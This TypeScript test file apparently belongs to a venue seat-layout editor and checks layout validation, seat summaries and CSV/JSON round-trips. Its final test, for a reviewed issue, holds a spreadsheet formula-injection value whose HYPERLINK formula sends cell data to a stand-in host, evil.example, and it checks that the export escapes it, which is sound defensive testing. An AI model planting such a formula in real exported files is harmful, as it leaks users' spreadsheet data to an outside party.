import { describe, expect, it } from 'vitest';
import { layoutToCsv, layoutToJson, parseLayoutCsv, parseLayoutJson } from '@/domain/venues/layout-files';
import { summariseLayout, validateLayout, type LayoutSeat } from '@/lib/seat-layout';

const seat = (o: Partial<LayoutSeat> = {}): LayoutSeat => ({ section: 'Stalls', row: 'A', number: 1, x: 0, y: 0, kind: 'standard', blocked: false, ...o });

describe('validateLayout (the editor and the save command share it)', () => {
  it('accepts a clean layout', () => {
    expect(validateLayout([seat(), seat({ number: 2, x: 1 }), seat({ row: 'B', y: 1 })])).toEqual([]);
  });

  it('names duplicate positions, duplicate labels (section names ignore case) and the same seat twice', () => {
    const errors = validateLayout([seat({ id: '00000000-0000-4000-8000-000000000001' }), seat({ number: 2 }), seat({ section: 'stalls', x: 5 }), seat({ id: '00000000-0000-4000-8000-000000000001', number: 9, x: 9 })]);
    expect(errors.map((e) => [e.line, e.message.split(':')[0]])).toEqual([
      [2, 'Duplicate position'],
      [3, 'Duplicate label'],
      [4, 'The same seat appears twice (also line 1).'],
    ]);
  });

  it('refuses empty labels, numbers out of range and positions off the grid', () => {
    const errors = validateLayout([seat({ row: ' ', number: 0, x: -1, y: 200 })]);
    expect(errors.map((e) => e.message)).toEqual([
      'The row label is empty.',
      'The seat number must be a whole number from 1 to 9999.',
      'x must be a whole number from 0 to 199.',
      'y must be a whole number from 0 to 199.',
    ]);
  });

  it('sums up a layout', () => {
    expect(summariseLayout([seat({ kind: 'wheelchair' }), seat({ kind: 'companion', blocked: true }), seat({ section: 'Balcony' })])).toEqual({
      seats: 3,
      sellable: 2,
      blocked: 1,
      wheelchair: 1,
      companion: 1,
      sections: 2,
    });
  });
});

describe('layout files', () => {
  const layout = [seat({ row: 'B', y: 1, blocked: true }), seat({ kind: 'wheelchair' }), seat({ number: 2, x: 1, kind: 'companion' })];

  it('exports front to back and reads its own CSV and JSON back', () => {
    const csv = layoutToCsv(layout);
    expect(csv).toBe('section,row,seat,x,y,kind,blocked\nStalls,A,1,0,0,wheelchair,no\nStalls,A,2,1,0,companion,no\nStalls,B,1,0,1,standard,yes\n');
    const fromCsv = parseLayoutCsv(csv);
    const fromJson = parseLayoutJson(layoutToJson(layout));
    expect(fromCsv).toEqual(fromJson);
    expect(fromCsv.ok && fromCsv.seats.map((s) => `${s.row}${s.number}:${s.kind}:${s.blocked}`)).toEqual(['A1:wheelchair:false', 'A2:companion:false', 'B1:standard:true']);
  });

  it('counts lines as a spreadsheet does (blank lines included) and reads quoted commas', () => {
    const parsed = parseLayoutCsv('section,row,seat,x,y,kind,blocked\n"Stalls, left",A,1,0,0,standard,no\n\nStalls,A,x,1,0,standard,no\n');
    expect(parsed).toEqual({ ok: false, errors: [{ line: 4, message: 'Seat "x" is not a whole number.' }] });
  });

  it('refuses what is not a layout', () => {
    expect(parseLayoutJson('{"rows": 3}')).toMatchObject({ ok: false, errors: [{ line: 0 }] });
    expect(parseLayoutJson('not json')).toMatchObject({ ok: false, errors: [{ line: 0, message: 'The JSON could not be read.' }] });
    expect(parseLayoutCsv('section,row,seat,x,y,kind,blocked\n')).toMatchObject({ ok: false, errors: [{ message: 'The file has no seats.' }] });
    expect(parseLayoutCsv('section,row,seat,x,y\n"unclosed,A,1,0,0\n')).toMatchObject({ ok: false, errors: [{ message: expect.stringContaining('could not be read') }] });
  });
});

describe('layout CSV export (review of issue 9)', () => {
  it('escapes a section or row label that a spreadsheet would run as a formula', () => {
    const csv = layoutToCsv([
      { section: '=HYPERLINK("http://evil.example/?"&A1,"Stalls")', row: '+A', number: 1, x: 0, y: 0, kind: 'standard', blocked: false },
      { section: 'Stalls', row: '@SUM(1)', number: 2, x: 1, y: 0, kind: 'standard', blocked: false },
    ]);
    const cells = csv.split(/\r?\n/).slice(1).join(',');
    expect(cells).not.toMatch(/(^|,)"?[=+@]/);
  });
});
